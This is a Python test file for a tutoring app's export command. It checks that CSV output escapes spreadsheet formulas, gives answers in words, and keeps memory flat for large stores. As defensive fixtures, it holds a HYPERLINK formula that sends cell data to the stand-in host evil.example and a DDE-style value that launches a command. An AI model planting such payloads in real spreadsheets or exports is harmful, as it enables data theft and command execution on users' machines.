"""`tutor export` as a spreadsheet opens it and at the size a long-time learner reaches (issue 22,
faults 6 and 12).

A pack folder named `=HYPERLINK(...)` put formula cells in the CSV's course_id column; the CSV had
only option ids in JSON; and every row was built in memory before the first was written, so 10
million answers did not finish in 120 s. The CSV is read back with the csv module, as a spreadsheet
reads it; the memory of real `tutor export` processes is read from the kernel (their peak RSS).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from tests.reliability.harness import PACK, REPO, child_env, tutor_command
from tests.reliability.progress_made import answers_recorded
from tutor.content.quiz_format import read_quiz_file
from tutor.progress import open_store

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="wait4 for a child's peak memory")

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def csv_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_no_csv_cell_is_a_formula_whatever_the_pack_or_the_store_holds(tmp_path: Path) -> None:
    pack = tmp_path / HOSTILE.replace("/", "_")
    shutil.copytree(PACK, pack)
    (pack / "course.toml").unlink()  # without course.toml, the folder's name is the course id
    home = tmp_path / "home"
    with open_store(home) as store:
        for n, start in enumerate(FORMULA_STARTS):
            attempt = store.start_attempt(pack.name, f"{start}quiz")
            store.record_answer(pack.name, f"{start}quiz", f"{start}question-{n}", chosen=[f"{start}1+1"],
                                correct=False, score=0.0, seconds=1.0, content_hash=f"{start}cmd|' /C calc'!A0",
                                attempt_id=attempt)
            store.finish_attempt(attempt, 0.0, 1.0)
        readiness = store.start_readiness(pack.name, {})
        store.finish_readiness(readiness, {"-1": 0.5}, False, 0.0, 1.0, ())

    done = subprocess.run([sys.executable, "-m", "tutor", "--content", str(pack), "export", "--format", "csv"],
                          capture_output=True, text=True, env=child_env(TUTOR_HOME=str(home)), cwd=REPO, timeout=60)

    assert done.returncode == 0, done.stderr
    rows = csv_cells(done.stdout)
    assert len(rows) == 2 * len(FORMULA_STARTS) + 1
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    assert {row["course_id"] for row in rows} == {"'" + pack.name}  # shown as typed, never run
    assert any(row["content_hash"] == "'=cmd|' /C calc'!A0" for row in rows)


def test_the_csv_gives_each_question_and_the_answers_chosen_in_words(tmp_path: Path) -> None:
    home = tmp_path / "home"
    answers_recorded(home, 4)  # "contact-details" with email and phone; "zoom-link" with join

    done = tutor_command("export", "--format", "csv", data_dir=home)

    assert done.returncode == 0, done.stderr
    answers = [row for row in csv_cells(done.stdout) if row["kind"] == "answer"]
    contact = next(row for row in answers if row["question_id"] == "contact-details")
    zoom = next(row for row in answers if row["question_id"] == "zoom-link")
    quiz = read_quiz_file(PACK / "quizzes" / "stay.toml").quiz
    assert quiz is not None
    questions = {question.id: question for question in quiz.questions}
    texts = {option.id: option.text for question in quiz.questions for option in question.options}
    assert contact["question_text"] == questions["contact-details"].prompt
    assert contact["chosen_text"] == f"{texts['email']}; {texts['phone']}"
    assert zoom["question_text"] == questions["zoom-link"].prompt and zoom["chosen_text"] == texts["join"]
    assert json.loads(contact["chosen"]) == ["email", "phone"]  # the ids stay, for scripts


# -- at scale ----------------------------------------------------------------------------------------


def bulk_answers(data_dir: Path, count: int) -> None:
    """`count` answers written in one INSERT ... SELECT (record_answer would sync `count` times)."""
    open_store(data_dir).close()
    conn = sqlite3.connect(data_dir / "progress.db", isolation_level=None)
    try:
        conn.execute("INSERT INTO quiz_attempts (id, course_id, quiz_id, started_at, kind) "
                     "VALUES (1, 'test-pack', 'stay', 1764000000, 'full')")
        conn.execute(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?) "
            "INSERT INTO answers (attempt_id, course_id, quiz_id, question_id, chosen, path, correct, score,"
            " seconds, content_hash, answered_at, hints) "
            "SELECT 1, 'test-pack', 'stay', CASE i % 2 WHEN 0 THEN 'zoom-link' ELSE 'contact-details' END,"
            " CASE i % 2 WHEN 0 THEN '[\"join\"]' ELSE '[\"email\", \"phone\"]' END, '[]', i % 2, i % 2, 2.5,"
            " 'hhhhhhhhhhhhhhhh', 1764000000 + i, 0 FROM n", (count,))
    finally:
        conn.close()


def peak_memory_mb(argv: list[str], env: dict[str, str]) -> float:
    """The peak resident memory of a child process, as the kernel counted it."""
    child = subprocess.Popen(argv, env=env, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    _pid, status, usage = os.wait4(child.pid, 0)
    child.returncode = os.waitstatus_to_exitcode(status)
    assert child.returncode == 0, child.stderr.read() if child.stderr else ""
    return usage.ru_maxrss / 1024  # kilobytes on Linux


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_memory_stays_flat_as_the_answers_grow(tmp_path: Path, fmt: str) -> None:
    peaks = {}
    for count in (20_000, 200_000):
        home = tmp_path / f"home-{count}"
        bulk_answers(home, count)
        target = tmp_path / f"export-{count}.{fmt}"
        peaks[count] = peak_memory_mb(
            [sys.executable, "-m", "tutor", "--content", str(PACK), "export", "--format", fmt, "-o", str(target)],
            child_env(TUTOR_HOME=str(home)))
        assert target.stat().st_size > count * 50
    # Building every row first took about 1 KB an answer (5 in JSON): 180 MB more for the larger store.
    assert peaks[200_000] - peaks[20_000] < 25, peaks
